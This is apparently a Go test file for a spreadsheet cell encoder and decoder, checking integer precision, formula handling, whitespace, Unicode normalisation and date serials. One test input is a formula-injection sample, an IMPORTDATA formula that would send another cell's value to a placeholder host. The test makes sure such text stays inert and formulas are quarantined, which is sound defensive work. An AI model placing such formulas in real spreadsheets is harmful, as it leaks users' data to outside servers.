package cell

import (
	"encoding/json"
	"errors"
	"math"
	"testing"
	"time"
)

// wire sends v through JSON the way the sheets client delivers a values read.
func wire(t *testing.T, v any) any {
	t.Helper()
	b, err := json.Marshal([]any{v})
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	var out []any
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	return out[0]
}

func wantReason(t *testing.T, err error, reason string) {
	t.Helper()
	var me *MalformedError
	if !errors.As(err, &me) || !errors.Is(err, ErrMalformed) {
		t.Fatalf("want *MalformedError %s, got %v", reason, err)
	}
	if me.Reason != reason {
		t.Fatalf("reason = %s, want %s", me.Reason, reason)
	}
}

func roundTrip(t *testing.T, col Column, v any) any {
	t.Helper()
	enc, err := Encode(col.Kind, v)
	if err != nil {
		t.Fatalf("encode %v: %v", v, err)
	}
	got, err := Decode(col, wire(t, enc))
	if err != nil {
		t.Fatalf("decode %v: %v", v, err)
	}
	return got
}

func TestC01_LeadingZerosStayText(t *testing.T) {
	sku := Column{Name: "sku", Kind: String, Key: true}
	enc, err := Encode(String, "00123")
	if err != nil || enc != "00123" {
		t.Fatalf("encode = %#v, %v; want text \"00123\"", enc, err)
	}
	if got := roundTrip(t, sku, "00123"); got != "00123" {
		t.Fatalf("round trip = %#v", got)
	}
	// A person retyped the cell: the API now returns the number 123.
	v, err := Decode(sku, wire(t, 123.0))
	wantReason(t, err, ReasonTypeMismatch)
	if v != nil {
		t.Fatalf("malformed cell must not yield a value, got %#v", v)
	}
}

func TestC02_BigIntegersExact(t *testing.T) {
	col := Column{Name: "n", Kind: Int}
	for _, n := range []int64{9007199254740993, 1234567890123456789, math.MinInt64, math.MaxInt64, -(1 << 53), 1 << 53, 1<<53 - 1, -(1<<53 - 1), 0, -7} {
		enc, err := Encode(Int, n)
		if err != nil {
			t.Fatal(err)
		}
		big := n > 1<<53-1 || n < -(1<<53-1)
		if _, isText := enc.(string); isText != big {
			t.Fatalf("%d encoded as %T; text only beyond ±2^53", n, enc)
		}
		if got := roundTrip(t, col, n); got != n {
			t.Fatalf("round trip %d = %#v", n, got)
		}
	}
	// A person's cell reads 1234567890123456800 (a float) for 1234567890123456789.
	v, err := Decode(col, wire(t, 1234567890123456800.0))
	wantReason(t, err, ReasonNotExactInteger)
	if v != nil {
		t.Fatalf("got %#v", v)
	}
	_, err = Decode(col, float64(1<<53)) // 2^53+1 would read back as this
	wantReason(t, err, ReasonNotExactInteger)
	_, err = Decode(col, 2.5)
	wantReason(t, err, ReasonNotExactInteger)
	_, err = Decode(col, "+5")
	wantReason(t, err, ReasonNonCanonicalInteger)
	_, err = Decode(col, "abc")
	wantReason(t, err, ReasonTypeMismatch)
}

func TestC03_FormulaLikeTextStaysText(t *testing.T) {
	col := Column{Name: "notes", Kind: String}
	for _, s := range []string{`=IMPORTDATA("https://example.invalid/?x="&B2)`, "+1 555 0100", "-3 units", "@owner", "=1+1", "NaN", "SEP1", "TRUE", "1e3"} {
		enc, err := Encode(String, s)
		if err != nil || enc != s {
			t.Fatalf("encode %q = %#v, %v", s, enc, err)
		}
		if got := roundTrip(t, col, s); got != s {
			t.Fatalf("round trip %q = %#v", s, got)
		}
	}
	// A formula found in the sheet is quarantined; its result never imported.
	v, err := DecodeObserved(col, Observed{Value: "secret", Formula: "=IMPORTDATA(B2)"})
	wantReason(t, err, ReasonFormula)
	if v != nil {
		t.Fatalf("formula result imported: %#v", v)
	}
	_, err = DecodeObserved(col, Observed{Value: "#REF!", ErrorType: "REF"})
	wantReason(t, err, ReasonErrorValue)
	_, err = DecodeObserved(col, Observed{Value: "x", Merged: true})
	wantReason(t, err, ReasonMerged)
}

func TestC04_TrailingEmptyCellsPadded(t *testing.T) {
	cols := []Column{{Name: "id", Kind: String, Key: true}, {Name: "name", Kind: String}, {Name: "email", Kind: String}, {Name: "notes", Kind: String}}
	got, err := DecodeRow(cols, []any{"7", "Bolt"})
	if err != nil || len(got) != 4 || got[0] != "7" || got[1] != "Bolt" || got[2] != nil || got[3] != nil {
		t.Fatalf("short row = %#v, %v", got, err)
	}
	got, err = DecodeRow(cols, []any{"8", "Nut", "", "n"})
	if err != nil || got[2] != nil || got[3] != "n" {
		t.Fatalf("blank interior = %#v, %v", got, err)
	}
	got, err = DecodeRow(cols, nil)
	if err != nil || len(got) != 4 {
		t.Fatalf("empty row = %#v, %v", got, err)
	}
	if VisibleHash([]any{"7", "Bolt"}) != VisibleHash([]any{"7", "Bolt", "", nil}) {
		t.Fatal("padding changed the visible hash")
	}
	if VisibleHash([]any{"7", "", "Bolt"}) == VisibleHash([]any{"7", "Bolt"}) {
		t.Fatal("interior blank ignored by the hash")
	}
	if enc, _ := Encode(String, ""); enc != nil {
		t.Fatalf("empty string must encode blank, got %#v", enc)
	}
}

func TestC11_NFCAndEdgeWhitespace(t *testing.T) {
	name := Column{Name: "name", Kind: String}
	key := Column{Name: "sku", Kind: String, Key: true}
	nfd := "Cafe\u0301"
	got, err := Decode(name, nfd)
	if err != nil || got != "Café" {
		t.Fatalf("NFD decode = %q, %v", got, err)
	}
	if enc, _ := Encode(String, nfd); enc != "Café" {
		t.Fatalf("encode not NFC: %q", enc)
	}
	if VisibleHash([]any{nfd}) != VisibleHash([]any{"Café"}) {
		t.Fatal("NFD and NFC hash differently")
	}
	for _, s := range []string{" 00123", "00123 ", "\t00123", "00123\u00a0"} {
		_, err := Decode(key, s)
		wantReason(t, err, ReasonEdgeWhitespace)
	}
	if got, err := Decode(name, " padded "); err != nil || got != " padded " {
		t.Fatalf("non-key edge spaces must be kept: %q, %v", got, err)
	}
}

func TestEncodeRejectsNonFinite(t *testing.T) {
	for _, f := range []float64{math.NaN(), math.Inf(1), math.Inf(-1)} {
		_, err := Encode(Float, f)
		var ee *EncodeError
		if !errors.As(err, &ee) || ee.Reason != ReasonNonFinite || !errors.Is(err, ErrUnencodable) {
			t.Fatalf("Encode(%v) err = %v", f, err)
		}
	}
	if _, err := Encode(Float, int64(1<<53+1)); !errors.Is(err, ErrUnencodable) {
		t.Fatalf("inexact int in float column: %v", err)
	}
	if _, err := Encode(String, 42); !errors.Is(err, ErrUnencodable) {
		t.Fatalf("int in string column: %v", err)
	}
	long := make([]byte, MaxTextRunes+1)
	for i := range long {
		long[i] = 'a'
	}
	if _, err := Encode(String, string(long)); !errors.Is(err, ErrUnencodable) {
		t.Fatalf("too long: %v", err)
	}
}

func TestTimeSerialRoundTrip(t *testing.T) {
	col := Column{Name: "at", Kind: Time}
	loc := time.FixedZone("X", 5*3600+1800)
	for _, tm := range []time.Time{
		time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC),
		time.Date(2026, 11, 30, 2, 7, 0, 123_456_789, loc),
		time.Date(1850, 6, 1, 12, 0, 0, 0, time.UTC),
		time.Date(9999, 12, 31, 23, 59, 59, 999_000_000, time.UTC),
	} {
		got := roundTrip(t, col, tm)
		if !got.(time.Time).Equal(CanonicalTime(tm)) || got.(time.Time).Location() != time.UTC {
			t.Fatalf("round trip %v = %v", tm, got)
		}
	}
	if s := SerialFromTime(time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)); s != 43831 {
		t.Fatalf("serial of 2020-01-01 = %v, want 43831", s)
	}
	_, err := Decode(col, "2020-01-01")
	wantReason(t, err, ReasonTypeMismatch)
	_, err = Decode(col, 1e12)
	wantReason(t, err, ReasonOutOfRange)
}

func TestStrictKinds(t *testing.T) {
	cases := []struct {
		col    Column
		raw    any
		reason string
	}{
		{Column{Kind: Bool}, "TRUE", ReasonTypeMismatch},
		{Column{Kind: Bool}, 1.0, ReasonTypeMismatch},
		{Column{Kind: Float}, "NaN", ReasonTypeMismatch},
		{Column{Kind: String}, true, ReasonTypeMismatch},
		{Column{Kind: Int}, true, ReasonTypeMismatch},
		{Column{Kind: Int}, "99999999999999999999", ReasonOutOfRange},
		{Column{Kind: String}, map[string]any{}, ReasonUnsupportedValue},
	}
	for _, c := range cases {
		_, err := Decode(c.col, c.raw)
		wantReason(t, err, c.reason)
	}
	if v, err := Decode(Column{Kind: Float}, json.Number("1.5")); err != nil || v != 1.5 {
		t.Fatalf("json.Number = %v, %v", v, err)
	}
}

func TestDecodeRowReportsColumns(t *testing.T) {
	cols := []Column{{Name: "id", Kind: String, Key: true}, {Name: "qty", Kind: Int}}
	vals, err := DecodeRow(cols, []any{123.0, 2.5})
	var me *MalformedError
	if !errors.As(err, &me) || me.Column != "id" || me.Index != 0 {
		t.Fatalf("err = %v", err)
	}
	if vals[0] != nil || vals[1] != nil {
		t.Fatalf("malformed cells must decode nil: %#v", vals)
	}
}
